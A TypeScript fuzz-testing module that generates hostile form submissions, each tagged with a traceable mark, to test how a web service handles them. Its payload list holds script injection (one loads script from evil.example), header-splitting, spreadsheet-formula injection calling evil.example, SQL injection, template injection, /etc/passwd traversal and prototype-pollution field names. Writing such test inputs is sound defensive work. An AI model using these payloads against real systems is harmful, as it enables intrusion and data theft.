/**
 * What somebody who means harm, or a broken program, sends to a form: the same from the same seed. Every text carries a mark
 * of its own, so that wherever it turns up again it is known.
 */
import fc from 'fast-check'
import type { Field, Form } from './walk.ts'

/** Stands in a hostile text where its mark will be. */
const place = '§'
const marks = /zqx\d+xqz/gi

/** The mark of the text number `number`: letters and digits, which nothing has a reason to change. */
export const markOf = (number: number): string => `zqx${number}xqz`

/** Every mark in a text. */
export const marksIn = (text: string): string[] => text.match(marks) ?? []

/** A hostile text with its mark put in. */
export const marked = (text: string, mark: string): string => text.replaceAll(place, mark)

/** Texts that have broken programs before, each for a reason of its own. */
export const attacks = [
  '<script>alert("§")</script>',
  '"><img src=x onerror=alert("§")>',
  '\' autofocus onfocus=\'alert("§")',
  '</textarea><script src="//evil.example/§.js"></script>',
  '</title></style></script><svg/onload=alert("§")>',
  '<!-- § --><![CDATA[ § ]]><? § ?>',
  'javascript:alert("§")',
  'data:text/html,<b>§</b>',
  '//evil.example/§',
  'https://evil.example/?§',
  '§\r\nSet-Cookie: stolen=§\r\n\r\n<html>',
  '\n\n§ after two line ends\n',
  '=HYPERLINK("https://evil.example/?§","Open")',
  '+§+1',
  '-2+§',
  '@SUM(§)',
  '\t=§',
  "'; drop table claimants; -- §",
  '" or "1"="1" /* § */',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is sent
  '${7*7} {{7*7}} #{7*7} <%= 7*7 %> §',
  '%00 %0d%0a %c0%af %zz § &#x3c;script&#62; &amp;lt;',
  '../../../../etc/passwd § ..\\..\\',
  '\u0000§\u0000',
  '\u202e§\u202d right to left \u2066§\u2069',
  'a\u200bb\ufeffc\u00ad§',
  `§ e${'\u0301'.repeat(400)}`,
  '👩🏽‍🚒🏴󠁧󠁢󠁷󠁬󠁳󠁿 § 🇬🇧',
  'שלום § مرحبا بالعالم',
  '漢字 § かな 한국어 தமிழ் አማርኛ',
  '\ud800§\udfff',
  '\u0001\u0008\u000b\u000c\u001b[31m§\u007f\u0085\u2028\u2029\ufffe\uffff',
  '(§) /JS (app.alert) >> endobj stream \\',
  '__proto__ constructor § toString',
  'NaN null undefined [object Object] § -0 1e999',
  'Ŵŷ ﬁ ① Å § ß İı ǆ',
] as const

/** One longer than a box takes: each of these is a limit of some box. */
const ofLength = (length: number) => `${place} ${'long '.repeat(length / 5)}`

const any = fc.oneof(
  { weight: 60, arbitrary: fc.constantFrom(...attacks) },
  { weight: 20, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }).map(text => `${text}${place}`) },
  { weight: 10, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }).map(text => `${place}${text}`) },
  { weight: 5, arbitrary: fc.constantFrom(201, 501, 2_001).map(ofLength) },
  { weight: 1, arbitrary: fc.constant(ofLength(10_001)) },
  { weight: 10, arbitrary: fc.constant(place) },
)

/** Long enough to be a nuisance, short enough to be sent. */
const longest = `${place}${'<">'.repeat(33_000)}`

/** Words that every object has. */
export const names = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
  'then',
  'length',
  'valueOf',
]

const numbers = [
  '-1',
  '0',
  '1',
  '1e309',
  '-1e309',
  'NaN',
  'Infinity',
  '9007199254740993',
  '99999999999999999999',
  '2147483648',
]
const moreNumbers = ['-2147483649', '9223372036854775808', '1.5', '0x10', '１２', '٣', ' 1 ', '1,000', '', '00', '-0']
export const limits = [...numbers, ...moreNumbers]

export const ids = [
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'FFFFFFFF-FFFF-4FFF-8FFF-FFFFFFFFFFFF',
  '{6f1c0000-0000-4000-8000-000000000000}',
  '6f1c0000-0000-4000-8000-00000000000',
  "6f1c0000-0000-4000-8000-000000000000'--",
  '6f1c0000-0000-4000-8000-000000000000\u0000',
]

/** Days that the calendar does not have, or that are far from any interview. */
const days: [string, string, string][] = [
  ['31', '2', '2026'],
  ['29', '2', '2027'],
  ['0', '0', '0'],
  ['32', '13', '99999'],
  ['1', '1', '-271822'],
  ['1', '1', '275761'],
  ['1e1', '0x1', '2,026'],
  ['٢', '١', '٢٠٢٦'],
  ['1', '1', '0001'],
]
/** Days that most forms take: the day of the test, one to come, one long past. */
const goodDays: [string, string, string][] = [
  ['24', '11', '2026'],
  ['8', '12', '2026'],
  ['2', '3', '1990'],
]

export type Sent = [field: string, value: string][]
export type Dice = { way: Way; texts: string[]; picks: number[] }
export const ways = ['typed', 'tampered', 'sent oddly', 'address'] as const
export type Way = (typeof ways)[number]

const dice: fc.Arbitrary<Dice> = fc.record({
  way: fc.oneof(
    { weight: 11, arbitrary: fc.constant<Way>('typed') },
    { weight: 5, arbitrary: fc.constant<Way>('tampered') },
    { weight: 3, arbitrary: fc.constant<Way>('sent oddly') },
    { weight: 3, arbitrary: fc.constant<Way>('address') },
  ),
  texts: fc.array(any, { minLength: 6, maxLength: 6 }),
  picks: fc.array(fc.nat(9_999), { minLength: 24, maxLength: 24 }),
})

/** So many throws of the dice, the same from the same seed. */
export const thrown = (seed: number, numRuns: number): Dice[] => fc.sample(dice, { seed, numRuns })

/** Reads the throw: `next` is the next number below `below`, `text` the next hostile text with the mark `mark`. */
export function reader({ texts, picks }: Dice, mark: () => string) {
  let [at, text] = [0, 0]
  const next = (below: number) => ((picks[at++ % picks.length] ?? 0) + Math.floor(at / picks.length)) % below
  const oneOf = <T>(list: readonly T[]): T => list[next(list.length)] as T
  return {
    next,
    oneOf,
    text: () => marked(texts[text++ % texts.length] ?? place, mark()),
    mark,
    longest: () => marked(longest, mark()),
  }
}
export type Reader = ReturnType<typeof reader>

/**
 * A form filled in as somebody would who wants it to be taken, with hostile texts where one can type. Half of the time some
 * boxes are left as they were: with something odd in every one of them hardly any form is ever taken.
 */
export function filled({ fields }: Form, throws: Reader): Sent {
  const day = throws.oneOf(goodDays)
  const isModest = throws.next(2) === 0
  return fields.flatMap((field): Sent => {
    const { name, kind, value, values } = field
    if (kind === 'hidden') return [[name, value]]
    if (kind === 'submit') return throws.next(8) === 0 ? [[name, throws.oneOf(values)]] : []
    if (kind === 'radio' || kind === 'select')
      return isModest && value ? [[name, value]] : [[name, throws.oneOf(values)]]
    if (kind === 'checkbox') return values.filter(() => !isModest && throws.next(3) === 0).map(one => [name, one])
    const part = ['day', 'month', 'year'].findIndex(box => name.endsWith(`-${box}`))
    if (part >= 0) return [[name, !isModest && throws.next(12) === 0 ? throws.text() : (day[part] ?? '')]]
    if (isModest && throws.next(5) > 1) return [[name, value]]
    return [[name, typing(field, throws)]]
  })
}

/** What the reader of a field takes, where it does not take any text. */
const shaped: [RegExp, (throws: Reader) => string][] = [
  [/time/i, () => '10:30am'],
  [/email/i, ({ mark }) => `${mark()}@example.com`],
  [/phones/i, ({ mark }) => `07700 900 982 (${mark().replace(/\d/g, digit => 'abcdefghij'.charAt(Number(digit)))})`],
  [/niNumber/i, () => ''],
  [/postcode/i, ({ mark }) => mark()],
  [/hours|money|minutes|miles|pounds|how-many|number/i, () => '12'],
]

function typing({ name }: Field, throws: Reader): string {
  const shape = shaped.find(([names]) => names.test(name))?.[1]
  if (shape && throws.next(6) > 0) return shape(throws)
  return throws.next(300) === 0 ? throws.longest() : throws.text()
}

/** The same with some of its fields as no page would send them. */
export function tampered(form: Form, throws: Reader): Sent {
  const sent = filled(form, throws)
  for (let times = 1 + throws.next(4); times > 0; times--) {
    const at = throws.next(Math.max(sent.length, 1))
    const [name = 'press'] = sent[at] ?? []
    const change = throws.next(9)
    if (change === 0) sent.splice(at, 1)
    else if (change === 1) sent.push([name, throws.text()], [name, throws.text()])
    else if (change === 2) sent.push([throws.oneOf(names), throws.text()], [`${throws.oneOf(names)}[x]`, throws.text()])
    else if (change === 3)
      sent.push([`${name}[]`, throws.text()], [`${name}[0][__proto__]`, throws.text()], ['', throws.text()])
    else if (change === 4) sent.push([throws.text(), throws.text()])
    else if (change === 5) sent[at] = [name, throws.oneOf(names)]
    else if (change === 6) sent[at] = [name, throws.oneOf(limits)]
    else if (change === 7) sent[at] = [name, throws.oneOf(ids)]
    else impossibleDay(sent, throws)
  }
  return sent
}

function impossibleDay(sent: Sent, throws: Reader) {
  const day = throws.oneOf(days)
  for (const pair of sent) {
    const part = ['day', 'month', 'year'].findIndex(box => pair[0].endsWith(`-${box}`))
    if (part >= 0) pair[1] = day[part] ?? ''
  }
}

/** As it is sent: half of a letter becomes the sign for one that cannot be read. */
export const wellFormed = (text: string): string => Buffer.from(text).toString()
